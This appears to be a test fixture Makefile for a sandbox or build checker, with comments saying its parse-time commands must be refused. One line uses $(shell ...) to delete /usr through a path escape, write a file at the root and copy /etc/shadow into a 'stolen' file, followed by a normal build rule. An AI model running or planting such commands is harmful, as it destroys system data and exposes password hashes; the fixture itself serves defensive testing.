# tries: commands that run while the Makefile is read
# must: be refused
EVIL := $(shell rm -rf /work/../usr; echo x > /evil; cat /etc/shadow > /work/stolen 2>/dev/null)
conecta: conecta.c sockets.c sockets.h
	$(CC) -D_GNU_SOURCE -o $@ conecta.c sockets.c
